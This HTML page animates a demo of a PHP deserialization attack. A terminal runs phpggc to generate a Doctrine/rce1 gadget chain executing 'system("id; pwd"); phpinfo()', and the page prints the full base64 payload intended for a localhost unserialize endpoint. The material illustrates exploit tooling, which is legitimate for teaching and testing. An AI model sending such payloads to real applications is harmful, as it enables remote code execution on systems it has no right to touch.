
An HTML page that plays this animation: 1280 px wide and 418 px high, repeating every 8000 ms.

```html
<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<title>Unserialize demo</title>
<style>
  html, body { margin: 0; width: 1280px; height: 418px; overflow: hidden; background: #000; text-rendering: geometricPrecision; }
  svg, pre { position: absolute; left: 0; top: 0; }
  svg { font-family: "Noto Sans", sans-serif; fill: #2a2a2e; }
  .line { fill: none; stroke: #2e3436; stroke-width: 1.2; }
  .faint { stroke: #b9b9b8; }
  .button { fill: #f3f1ef; fill-opacity: .6; stroke: #cfcac5; }
  .tabs { font-size: 8.5px; }
  .tools { font-size: 7.75px; fill: #38383d; }
  .json { font: 8.12px "DejaVu Sans Mono", monospace; }
  /* Laid out ten times larger so that row metrics are not rounded to whole pixels. */
  pre {
    left: 665.5px; top: 41.3px; margin: 0; color: #000;
    font: 95.93px/109.7px "DejaVu Sans Mono", monospace;
    transform: scale(.1); transform-origin: 0 0;
  }
  pre b { color: #26a269; }
  pre .dir { color: #12488b; }
  .selected { background: #000; color: #fff; }
  #cursor.solid { background: #000; }
  #cursor.hollow { box-shadow: inset 0 0 0 10px #000; }
  #pointer { width: 12px; height: 16px; }
</style>
</head>
<body>
<svg width="1280" height="418">
  <defs>
    <linearGradient id="fade">
      <stop offset=".78" stop-color="#fff"/><stop offset="1" stop-color="#fff" stop-opacity="0"/>
    </linearGradient>
    <linearGradient id="bar" x2="0" y2="1"><stop stop-color="#e1dedb"/><stop offset="1" stop-color="#d9d5d1"/></linearGradient>
    <mask id="tabFade"><rect x="49" y="18" width="141" height="26" fill="url(#fade)"/></mask>
  </defs>

  <!-- Browser -->
  <path d="M12 402V19q0-5 5-5H655q5 0 5 5V402z" fill="#fefefe"/>
  <path d="M12 46V19q0-5 5-5H655q5 0 5 5V46z" fill="#f4f4f2"/>
  <path d="M12 46H660V77H12z" fill="#f9f9f8"/>
  <path d="M12 77H660V113H12z" fill="#fafafa"/>
  <path d="M12 46.5H660M12 76.5H660M12 95.5H660M12 113.5H660" stroke="#e0e0e1"/>
  <rect x="42.5" y="16.5" width="165" height="27" rx="3" fill="#f9f9f8" stroke="#d6d6d5"/>
  <text x="49" y="34" font-size="10.6" mask="url(#tabFade)">localhost:8000/unserialize?data=</text>
  <g class="line">
    <path d="M192.3 27.5l5.4 5.4m0-5.4l-5.4 5.4" stroke-width="1"/>
    <path d="M218.5 30.5h9M223 26v9"/>
    <path d="M594 32.2h6M619.5 27.7h4.6v4.6h-4.6zM644.5 27.5l5 5m0-5l-5 5" stroke="#000" stroke-width="1.7"/>
    <path class="faint" d="M34.5 62h-10m4.5-4.5l-4.5 4.5 4.5 4.5M51 62h10m-4.5-4.5l4.5 4.5-4.5 4.5"/>
    <path d="M87 59a4.7 4.7 0 1 0 .8 4M88 56v4h-4"/>
  </g>
  <rect x="131" y="50" width="437" height="22.5" rx="3" fill="#fff" stroke="#cbcbca"/>
  <g class="line">
    <path d="M140.5 60v-2a2.5 2.5 0 0 1 5 0v2"/>
    <rect x="139.5" y="60.5" width="7" height="5.5" rx="1"/>
    <path d="M138 56l10 11" stroke="#d7264c"/>
    <path d="M557 56l1.7 3.6 3.9.5-2.9 2.7.8 3.9-3.5-1.9-3.5 1.9.8-3.9-2.9-2.7 3.9-.5z"/>
    <path d="M638.5 58h9M638.5 61.5h9M638.5 65h9"/>
  </g>
  <circle cx="616" cy="61.5" r="4.8" fill="#4a4a4f"/>
  <text x="156" y="65.5" font-size="11.1" fill="#85858a"><tspan fill="#15141a">localhost</tspan>:8000/unserialize?data=</text>
  <path d="M12 76H51V78H12z" fill="#1283e8"/>
  <g class="tabs">
    <text x="21" y="89" font-size="9" fill="#0074e8">JSON</text>
    <text x="59" y="89">Données brutes</text>
    <text x="138" y="89">En-têtes</text>
  </g>
  <g class="tools">
    <text x="19" y="107">Enregistrer</text>
    <text x="68" y="107">Copier</text>
    <text x="101" y="107">Tout réduire</text>
    <text x="153.5" y="107">Tout développer</text>
    <text x="234" y="107" font-size="8.3" fill="#a5a5a8">Filtrer le JSON</text>
  </g>
  <path d="M217.5 97v14" stroke="#e0e0e1"/>
  <path d="M224.5 100.5h7l-2.6 3.5v4l-1.8-1.2V104z" fill="none" stroke="#88888c"/>
  <path d="M16.5 119.5h7l-3.5 4z" fill="#777"/>
  <g class="json">
    <text x="27" y="124" fill="#0074e8">message:</text>
    <text x="82" y="124" fill="#c800a0">"Please send the data you want to unserialize with data param"</text>
  </g>

  <!-- Terminal -->
  <path d="M665 403V19q0-5 5-5H1263q5 0 5 5V403z" fill="#fefefe"/>
  <path d="M665 40V19q0-5 5-5H1263q5 0 5 5V40z" fill="#f6f5f4"/>
  <path id="focusBar" d="M665 40V19q0-5 5-5H1263q5 0 5 5V40z" fill="url(#bar)"/>
  <path d="M665 40.5H1268" stroke="#cfcbc7"/>
  <g id="header">
    <g class="button">
      <rect x="669.5" y="17.5" width="19" height="18" rx="2.5"/>
      <rect x="1146.5" y="17.5" width="19" height="18" rx="2.5"/>
      <rect x="1170.5" y="17.5" width="19" height="18" rx="2.5"/>
    </g>
    <g class="line">
      <path d="M675.5 23.5h7v7h-7zM679 25v4M677 27h4"/>
      <circle cx="1155" cy="25.5" r="2.8"/>
      <path d="M1157 27.5l3 3M1177 24h7M1177 27h7M1177 30h7"/>
      <path d="M1206 28.5h4.5M1229.5 24.8h4v4h-4zM1252 24.5l4.5 4.5m0-4.5l-4.5 4.5"/>
    </g>
    <text x="966" y="29.8" font-size="7.5" font-weight="bold" text-anchor="middle">demo@vorlen: ~</text>
  </g>
  <path d="M1261.5 41V403" stroke="#e2e2e2"/>
  <rect id="scrollbar" x="1262" y="42" width="4.5" height="361" rx="1" fill="#6f7375"/>
</svg>

<pre><b>demo@vorlen</b>:<b class="dir">~</b>$ <span id="command">docker run --entrypoint './phpggc' phpggc -b Doctrine/rce1 'system("id; pwd"); phpinfo()
;'</span><span id="enter">
</span><span id="result"><span id="payload">YTo0OntpOjEwMDA7TzozOToiRG9jdHJpbmVcQ29tbW9uXENhY2hlXFBzcjZcQ2FjaGVBZGFwdGVyIjozOntzOjEzOiJkZWZlcnJlZEl
0ZW1zIjthOjE6e2k6MDtPOjQxOiJEb2N0cmluZVxDb21tb25cQ2FjaGVcUHNyNlxUeXBlZENhY2hlSXRlbSI6Mjp7czo2OiJleHBpcn
kiO2k6OTk5OTk5OTk5OTk5OTk5OTk7czo1OiJ2YWx1ZSI7czo0OiJ0ZXN0Ijt9fXM6NjoibG9hZGVyIjtpOjE7czo1OiJjYWNoZSI7T
zo3MToiU3ltZm9ueVxDb21wb25lbnRcSHR0cEZvdW5kYXRpb25cU2Vzc2lvblxTdG9yYWdlXE1vY2tGaWxlU2Vzc2lvblN0b3JhZ2Ui
OjU6e3M6Nzoic3RhcnRlZCI7YjoxO3M6ODoic2F2ZVBhdGgiO3M6NDoiL3RtcCI7czoyOiJpZCI7czozOiJhYWEiO3M6NDoiZGF0YSI
7YToxOntpOjA7czozODoiPD9waHAgc3lzdGVtKCJpZDsgcHdkIik7IHBocGluZm8oKTsgPz4iO31zOjExOiJtZXRhZGF0YUJhZyI7Tz
o2MDoiU3ltZm9ueVxDb21wb25lbnRcSHR0cEZvdW5kYXRpb25cU2Vzc2lvblxTdG9yYWdlXE1ldGFkYXRhQmFnIjoxOntzOjEwOiJzd
G9yYWdlS2V5IjtzOjE6ImEiO319fWk6MTAwMDtpOjE7aToyMDAwO086Mzk6IkRvY3RyaW5lXENvbW1vblxDYWNoZVxQc3I2XENhY2hl
QWRhcHRlciI6Mzp7czoxMzoiZGVmZXJyZWRJdGVtcyI7YToxOntpOjA7Tzo0MToiRG9jdHJpbmVcQ29tbW9uXENhY2hlXFBzcjZcVHl
wZWRDYWNoZUl0ZW0iOjI6e3M6NjoiZXhwaXJ5IjtpOjA7czo1OiJ2YWx1ZSI7czo0OiJ0ZXN0Ijt9fXM6NjoibG9hZGVyIjtpOjE7cz
o1OiJjYWNoZSI7Tzo0NzoiU3ltZm9ueVxDb21wb25lbnRcQ2FjaGVcQWRhcHRlclxQaHBBcnJheUFkYXB0ZXIiOjE6e3M6NDoiZmlsZ
SI7czoxNzoiL3RtcC9hYWEubW9ja3Nlc3MiO319aToyMDAwO2k6MTt9</span>
<b>demo@vorlen</b>:<b class="dir">~</b>$ </span><span id="cursor"> </span></pre>

<svg id="pointer" viewBox="-6 -8 12 16">
  <path d="M-2.5-5H-.8L0-4.4.8-5H2.5M-2.5 5H-.8L0 4.4.8 5H2.5M0-4.4V4.4" fill="none" stroke="#fff" stroke-width="2.6"/>
  <path d="M-2.5-5H-.8L0-4.4.8-5H2.5M-2.5 5H-.8L0 4.4.8 5H2.5M0-4.4V4.4" fill="none" stroke="#222" stroke-width="1"/>
</svg>

<script>
const LOOP = 8000, FOCUS = 1100, PASTE = 3475, ENTER = 4800, OUTPUT = 5075, SELECT = 5975;
const blinkOff = [[2250, 2850], [4050, 4530], [5650, 6150], [6750, 7350]];
const pointerPath = [ // time, x, y
  [600, 700, 240], [1100, 971, 202], [1450, 971, 202], [1850, 958, 149],
  [4900, 958, 149], [5700, 905, 155], [5900, 880, 167], [6500, 880, 167], [7250, 973, 260]
];
const el = id => document.getElementById(id);
const clamp = v => Math.min(1, Math.max(0, v));

function pointerAt(t) {
  const i = pointerPath.findIndex(key => key[0] > t);
  if (i < 0) return pointerPath.at(-1).slice(1);
  const [t0, x0, y0] = pointerPath[Math.max(0, i - 1)], [t1, x1, y1] = pointerPath[i];
  const u = clamp((t - t0) / (t1 - t0 || 1)), s = u * u * (3 - 2 * u);
  return [x0 + (x1 - x0) * s, y0 + (y1 - y0) * s];
}

function draw(t) {
  const focus = clamp((t - FOCUS) / 200);
  el("focusBar").style.opacity = focus;
  el("header").style.opacity = .55 + .45 * focus;
  el("scrollbar").style.opacity = .3 + .7 * focus;

  el("command").hidden = t < PASTE;
  el("command").className = t < ENTER ? "selected" : "";
  el("enter").hidden = t < ENTER;
  el("result").hidden = t < OUTPUT;
  el("payload").className = t < SELECT ? "" : "selected";

  const off = blinkOff.some(([from, to]) => t >= from && t < to);
  el("cursor").className = t < FOCUS ? "hollow" : off ? "" : "solid";

  const [x, y] = pointerAt(t);
  el("pointer").style.transform = `translate(${Math.round(x) - 6}px, ${Math.round(y) - 8}px)`;
  el("pointer").style.visibility = t < 600 ? "hidden" : "visible";
}

function tick() {
  draw(performance.now() % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
